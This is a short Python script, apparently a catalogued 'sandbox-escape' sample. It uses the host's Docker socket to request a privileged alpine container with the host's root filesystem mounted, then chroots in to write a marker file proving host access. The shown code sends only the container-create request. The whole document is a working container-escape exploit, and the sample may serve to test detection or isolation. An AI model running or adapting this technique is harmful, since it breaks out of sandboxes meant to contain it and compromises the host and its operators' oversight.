# family: sandbox-escape
# talks to the host's Docker socket to start a privileged container with / mounted
import json
import socket

body = json.dumps({"Image": "alpine", "Cmd": ["chroot", "/host", "sh", "-c", "id > /host/tmp/pwned"],
                   "HostConfig": {"Binds": ["/:/host"], "Privileged": True}})
s = socket.socket(socket.AF_UNIX)
s.connect("/var/run/docker.sock")
s.sendall(("POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
           f"Content-Length: {len(body)}\r\n\r\n{body}").encode())
print(s.recv(4096))
